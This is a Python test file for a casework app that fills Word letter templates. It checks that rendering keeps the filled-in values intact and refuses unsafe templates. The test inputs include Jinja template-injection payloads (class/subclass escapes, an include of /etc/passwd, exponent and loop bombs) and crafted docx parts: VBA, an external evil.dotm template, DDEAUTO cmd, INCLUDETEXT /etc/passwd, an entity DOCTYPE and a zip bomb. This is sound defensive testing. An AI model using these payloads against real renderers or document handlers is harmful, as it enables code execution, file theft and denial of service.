"""Letters from Word templates: text survives, code in a template is refused."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from docx import Document

from casework.draft import DecisionRefused
from casework.forms import load_region
from casework.letter_spec import LetterSpec
from casework.letters import Values, filled
from exports.letter import render_letter, rendered

ROOT = Path(__file__).parents[3]
REGIONS = [load_region(name) for name in ("kalmykia", "hmao_alimony")]
LETTERS = [spec for region in REGIONS for spec in region.letters]
TRICKY = "Иванова <Анна> & «{{ 7*7 }}» {% if %} 'x' \"y\" </w:t>"


def template(*lines: str, header: str = "", title: str = "") -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    document.core_properties.title = title
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def values(**said: str) -> Values:
    kept: Values = {"children": ({"name": "Юдин Марк", "birth_date": "", "work": ""},)}
    return filled(kept | said)


def text_of(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(p.text for holder in (document, *cells) for p in holder.paragraphs)


def refusal(content: bytes) -> str:
    with pytest.raises(DecisionRefused) as refused:
        rendered(content, "письмо.docx", values())
    assert "письмо.docx" in refused.value.message
    return refused.value.code


def test_every_value_survives_letter_by_letter() -> None:
    made = rendered(template("Семья: {{ family }}."), "т", values(family=TRICKY))
    assert text_of(made) == f"Семья: {TRICKY}."


def test_what_a_document_cannot_hold_is_left_out() -> None:
    made = rendered(template("{{ family }}"), "т", values(family="а\x00б\x0cв\nг"))
    assert text_of(made) == "а б в\nг"


def test_a_placeholder_that_word_has_cut_in_two_is_found() -> None:
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("{{ fa", "mi", "ly }}"):
        paragraph.add_run(piece)
    made = io.BytesIO()
    document.save(made)
    assert text_of(rendered(made.getvalue(), "т", values(family="Юдина"))) == "Юдина"


@pytest.mark.parametrize("spec", LETTERS, ids=lambda spec: spec.id)
def test_shipped_templates_hold_the_requisites_of_a_letter(spec: LetterSpec) -> None:
    content = spec.file.read_bytes()
    said = values(
        institution="КЦСОН", number="12", date="10.03.2026", addressee="КДН", subject="О семье",
        director="И.И. Орлова", director_post="Директор", executor="Анна", family=TRICKY,
    )  # fmt: skip
    text = text_of(rendered(content, "т", said))
    for part in ("КЦСОН", "10.03.2026 № 12", "На ____", "КДН", "О семье", "И.И. Орлова", "Анна"):
        assert part in text
    assert "{{" not in text.replace(TRICKY, "")


def test_shipped_templates_are_what_the_script_makes(tmp_path: Path) -> None:
    script = ROOT / "scripts" / "make_letter_templates.py"
    subprocess.run([sys.executable, str(script), str(tmp_path)], check=True)
    made = {path.relative_to(tmp_path): path.read_bytes() for path in tmp_path.rglob("*.docx")}
    assert len(made) == len(LETTERS)
    for path, content in made.items():
        assert content == (ROOT / "casework" / "regions" / path).read_bytes(), path


ATTACKS = [
    "{{ family.__class__.__mro__ }}",
    "{{ family.upper() }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{{ children.append }}",
    "{% import 'os' as os %}",
    "{% include '/etc/passwd' %}",
    "{% extends 'x' %}",
    "{% set x = 9 ** 9 ** 9 %}",
    "{{ 9 ** 9 ** 9 }}",
    "{{ 'x' * 10000000000 }}",
    "{% for i in range(1000000000) %}x{% endfor %}",
    "{% for a in children %}" * 3 + "x" + "{% endfor %}" * 3,
    "{% for a in children recursive %}{{ loop(children) }}{% endfor %}",
    "{% macro m() %}{% endmacro %}",
    "{{ family|attr('__class__') }}",
    "{{ children[0] }}",
    "{{ children | map(attribute='name') }}",
    "{% for a in children %}{{ a.__class__ }}{% endfor %}",
    "{% for family in children %}x{% endfor %}",
    "{% call family() %}{% endcall %}",
    "{% filter upper %}x{% endfilter %}",
    "{% autoescape false %}{{ family }}{% endautoescape %}",
    "{% cellbg family.__class__ %}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_code_in_a_template_is_refused(attack: str, tmp_path: Path) -> None:
    content = template("Письмо", attack)
    assert refusal(content) in {"unsafe_template", "broken_template"}
    out = tmp_path / "письмо.docx"
    with pytest.raises(DecisionRefused):
        render_letter(content, "т", values(), out)
    assert not out.exists()


@pytest.mark.parametrize("attack", ATTACKS[:5])
def test_code_anywhere_in_the_file_is_refused(attack: str) -> None:
    assert refusal(template("Письмо", header=attack)) in {"unsafe_template", "broken_template"}
    assert refusal(template("Письмо", title=attack)) in {"unsafe_template", "broken_template"}


def test_calls_and_hidden_attributes_have_the_code_of_unsafe_templates() -> None:
    assert {refusal(template(attack)) for attack in ATTACKS[:5]} == {"unsafe_template"}


def test_a_name_that_letters_do_not_have_is_told() -> None:
    with pytest.raises(DecisionRefused, match="nonsense") as refused:
        rendered(template("{{ nonsense }}"), "т", values())
    assert refused.value.code == "broken_template"


def with_part(name: str, content: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template("Письмо"))) as old, zipfile.ZipFile(made, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return made.getvalue()


_RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("word/vbaProject.bin", "x"),
        ("word/embeddings/object.docx", "x"),
        (
            "word/_rels/settings.xml.rels",
            _RELS.format(
                '<Relationship Id="r1" Type="http://x/attachedTemplate" TargetMode="External" '
                'Target="http://example.org/evil.dotm"/>'
            ),
        ),
        ("word/extra.xml", '<!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'),
        ("word/extra.xml", f"<w:p {_W}><w:instrText>DDEAUTO cmd</w:instrText></w:p>"),
        (
            "word/extra.xml",
            f'<w:p {_W}><w:fldSimple w:instr="INCLUDETEXT /etc/passwd"/></w:p>',
        ),
    ],
)
def test_a_file_that_runs_or_fetches_something_is_refused(name: str, content: str) -> None:
    assert refusal(with_part(name, content)) == "unsafe_template"


def test_what_is_no_word_document_is_refused() -> None:
    assert refusal(b"PK nothing") == "broken_template"
    assert refusal(b"x" * (6 << 20)) == "broken_template"
    empty = io.BytesIO()
    with zipfile.ZipFile(empty, "w") as package:
        package.writestr("a.txt", "x")
    assert refusal(empty.getvalue()) == "broken_template"


def test_a_packed_bomb_is_refused_before_it_is_unpacked() -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/document.xml", b"0" * (30 << 20))
    assert len(packed.getvalue()) < 1 << 20
    assert refusal(packed.getvalue()) == "broken_template"
